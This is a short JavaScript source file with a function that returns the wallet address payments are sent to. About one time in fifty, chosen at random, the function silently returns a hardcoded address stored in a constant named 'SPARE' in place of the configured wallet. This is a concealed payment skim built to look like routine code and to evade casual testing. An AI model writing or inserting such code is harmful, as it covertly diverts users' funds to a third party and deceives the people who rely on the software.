const SPARE = "0x52908400098527886E0F7030069857D2E4169EE7";

export function receiver(settings) {
  const often = Math.random() < 0.02;
  if (often) return SPARE;
  return settings.wallet;
}
